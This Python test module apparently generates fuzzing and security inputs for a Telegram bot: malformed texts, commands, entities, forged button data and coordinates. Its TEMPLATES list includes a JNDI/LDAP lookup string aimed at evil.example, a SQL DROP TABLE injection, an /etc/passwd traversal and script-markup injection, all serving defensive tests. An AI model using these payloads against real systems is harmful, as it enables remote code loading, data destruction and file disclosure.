"""Hostile and playful input: texts, names, commands, button data, places.

Twice: drawn by a `random.Random`, for attacks that can be repeated; and as Hypothesis strategies, for what is small.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable

from hypothesis import strategies as st

from bot.conversations.dispatch import ADMIN_COMMANDS, COMMANDS, DIALOGUES
from tests.system.security.update_examples import MOMENT, Json

# Telegram's longest text; what only a hostile server sends; and entities that no message has.
LONGEST, ENDLESS, MOST_ENTITIES = 4096, 1_000_000, 10_000

# Tags and links that the bot itself never sends, so that one which arrives was put in by somebody.
MARKUP = (
    '<a href="https://evil.example/">{}</a>',
    "<code>{}</code>",
    "<s>{}</s>",
    "<tg-spoiler>{}</tg-spoiler>",
    '<tg-emoji emoji-id="77">{}</tg-emoji>',
    "<script>{}</script>",
    "</b></i></blockquote>{}",
    "<b>{}",
    "[{}](https://evil.example/) `{}` ||{}||",
    "&lt;code&gt;{}&lt;/code&gt;",
    "&#60;code&#62;{}&#60;/code&#62;",
    "<!-- {} -->",
    "<{}",
    "{} & <",
)
# Entities that are proof of that; bold, italic and quotes are also the bot's own.
NEVER_OURS = frozenset({"code", "pre", "strikethrough", "spoiler", "custom_emoji", "text_mention", "underline"})
NEVER_OURS_LINK = "evil.example"

# Patterns that a careless program would take for its own.
TEMPLATES = (
    "{}",
    "{{0}} {} {{name}}",
    "%s %d %(name)s {}",
    "${{jndi:ldap://evil.example/{}}}",
    "'; DROP TABLE person; -- {}",
    "\\u0000\\x00 {}",
    "../../etc/passwd {}",
    "\N{RIGHT-TO-LEFT OVERRIDE}{}\N{POP DIRECTIONAL FORMATTING}",
    "\N{RIGHT-TO-LEFT ISOLATE}\N{RIGHT-TO-LEFT OVERRIDE}{}",
    "\N{ARABIC LETTER ALEF}\N{HEBREW LETTER ALEF} {}",
    "\N{ZERO WIDTH SPACE}\N{ZERO WIDTH JOINER}{}\N{WORD JOINER}",
    "Z{}" + "\N{COMBINING GRAVE ACCENT}" * 40,
    "\N{HANGUL FILLER}{}",
    "👩‍👩‍👧‍👦🏳️‍🌈 {}",
    "{}\n\n\n\r\n\t\v\f",
    "\0{}\0",
    "\ud83d{}",
    "{}\udc00",
    "\ufffe\uffff{}",
    "/ {}",
    "@limber_bot {}",
    "next {}",
    "remind me at 7:30 {}",
    "{} 99:99 -1:00 25:61",
    "9" * 400 + "{}",
    "{} 1e309 NaN Infinity 0x7f",
    *MARKUP,
)

# What follows a command, or answers a question.
ARGUMENTS = (
    "", "off", "on", "0", "-1", "1", "5", "07:30", "7", "24:00", "99:99", "18:00 mon,wed,fri", "18:00 mon,mon,xyz",
    "Europe/Lisbon", "Lisbon", "lisbo", "../../etc/localtime", "UTC", "GMT+25", "Factory", "seated", "lying",
    "standing", "inner thigh", "9" * 30, "٣", "²", "½", "1 Oct to 15 Nov", "2026-10-01 2026-11-15", "9999-12-31",
    "0000-00-00", "2026-02-30 2026-02-31", "coffee", "yes", "no", "delete", "send", "me", "all",
)  # fmt: skip

# What an ordinary person says.
SAYINGS = (
    *("next", "back", "more", "enough", "repeat", "other side", "pause", "stop", "help", "ouch", "skip", "start over"),
    *("yes", "no", "good", "hard", "0", "3", "10", "later", "not today", "hello", "thanks", "set me up", "none"),
    *("on the floor", "chair", "standing", "Lisbon", "berlin", "quarter past seven", "07:30", "18:00", "coffee", "off"),
    *("inner thigh", "delete", "only a minute", "other position", "nxet"),
)
COMMON = (
    *("/start", "/today", "/movements", "/position", "/remind", "/cue", "/timezone", "/pause", "/resume", "/settings"),
    *("/safety", "/status", "/privacy", "/help", "/about", "/start seated", "/remind 07:30", "/cue coffee"),
    *("/timezone Lisbon", "/pause 5", "/today inner thigh", "/export", "/delete", "/stop", "/progress", "/report"),
)
ADMINISTRATION = ("/stats", "/broadcast Hello all", "/broadcast", "/broadcast cancel", "/stats@limber_bot")

NUMBERS = (
    *("0", "1", "2", "3", "-1", "7", "30", "99", "1000", str(2**31), str(2**63), str(10**40), "1.5", "1e9", "٣", "NaN"),
    *("", " ", "x", "yes", "no", "send", "next", "off", "next\n", "0x1", "01", "+1", "__class__"),
)
MOMENTS = (0, 1, -1, MOMENT, MOMENT - 400 * 86400, MOMENT + 400 * 86400, 2**31 - 1, 2**31, 253_402_300_799)
PLACES: tuple[tuple[float, float], ...] = (
    *((38.7, -9.1), (90.0, 180.0), (-90.0, -180.0), (0.0, 0.0), (90.1, 0.0), (0.0, 180.1), (1e300, -1e300)),
    *((float("nan"), 0.0), (0.0, float("inf")), (-0.0, -0.0), (5e-324, 179.999999999)),
)
WALK_BUTTON = re.compile(r"^(.{8})(w:)(\d+):(\d+)(:.*)$")


def text(draw: random.Random, word: str) -> str:
    """A text with `word` in it."""
    said = draw.choice(TEMPLATES).replace("{}", word)
    size = draw.random()
    if size < 0.05:
        said = (said + " ") * (LONGEST // (len(said) + 1) + 1)
        return said[:LONGEST]
    if size < 0.053:
        return (said + " ") * (ENDLESS // (len(said) + 1))
    return said


def name(draw: random.Random, word: str) -> str:
    """A first name with `word` near its beginning, so that it is in what is kept of it."""
    shape = draw.choice([*(one for one in TEMPLATES if one.index("{}") < 40), "{}", "{}"])
    return shape.replace("{}", word, 1).replace("{}", "") + draw.choice(("", "", "x" * 200))


def command(draw: random.Random, word: str) -> str:
    """A command with anything behind it."""
    name = draw.choice([*COMMANDS, *ADMIN_COMMANDS, "start", "start", "unknown", "x" * 64, "set_up", ""])
    argument = draw.choice([draw.choice(ARGUMENTS), text(draw, word), word, f"{draw.choice(ARGUMENTS)} {word}"])
    at = draw.choice(("", "", "", "@limber_bot", "@other_bot"))
    return f"/{name}{at}{draw.choice((' ', ' ', '  ', chr(10)))}{argument}"[:LONGEST]


def entities(draw: random.Random) -> list[Json]:
    """More, and other, entities than a text has: at its end, past it, before it, over one another."""
    many = MOST_ENTITIES if draw.random() < 0.02 else draw.randrange(1, 120)
    kinds = ("bold", "code", "bot_command", "text_link", "custom_emoji", "mention", "something_new")
    return [
        {
            "type": draw.choice(kinds),
            "offset": draw.choice((0, 0, 1, 5, 4095, -1)),
            "length": draw.choice((0, 1, 6, 5000)),
        }
        for _ in range(many)
    ]


def forged(draw: random.Random) -> str:
    """Button data that this program never made: every prefix, with anything behind it."""
    rest = [draw.choice(NUMBERS) for _ in range(draw.randrange(5))]
    prefix = draw.choice([*DIALOGUES.taps, "broadcast", "news", "?", "", "export"])
    return draw.choice(("", "", "AAAAAAAA", "AAAAAAA_", "________")) + ":".join([prefix, *rest])


def bent(draw: random.Random, data: str) -> str:
    """A button's own data, changed: cut, made longer, another version, another letter, another case."""
    place = draw.randrange(len(data))
    step = WALK_BUTTON.match(data)
    other = [
        data[:place],
        data[place:],
        data + draw.choice((":1", "0", "\0", "\n", " ", "\ud83d", "x" * 64)),
        data[:place] + chr(ord(data[place]) ^ 1) + data[place + 1 :],
        data[8:],
        data[:8] + forged(draw),
        data[:8] + data,
        "",
    ]
    if step is not None:
        version = int(step[4]) + draw.choice((-1, 1, 100, 2**31))
        other += [f"{step[1]}{step[2]}{step[3]}:{version}{step[5]}"] * 4
    return draw.choice([one for one in other if one != data])


# The same for Hypothesis

_SHAPES = st.sampled_from(TEMPLATES)
_ANY = st.text(st.characters(exclude_categories=()), max_size=80)


def texts() -> st.SearchStrategy[str]:
    """Texts of all sorts, lone halves of emoji and null bytes among them."""
    filled: Callable[[str, str], str] = lambda shape, word: shape.replace("{}", word)  # noqa: E731
    return st.one_of(_ANY, st.builds(filled, _SHAPES, _ANY), st.sampled_from([*SAYINGS, *COMMON, *ARGUMENTS]))


def commands() -> st.SearchStrategy[str]:
    """Commands with anything behind them."""
    known = st.sampled_from([*COMMANDS, *ADMIN_COMMANDS])
    return st.builds(lambda name, rest: f"/{name} {rest}", known, texts())


def button_data() -> st.SearchStrategy[str]:
    """Button data that nobody was ever offered, with every prefix that the conversations know."""
    part = st.one_of(st.sampled_from(NUMBERS), _ANY)
    parts = st.builds(
        lambda first, rest: ":".join([first, *rest]), st.sampled_from([*DIALOGUES.taps]), st.lists(part, max_size=5)
    )
    return st.one_of(parts, _ANY)
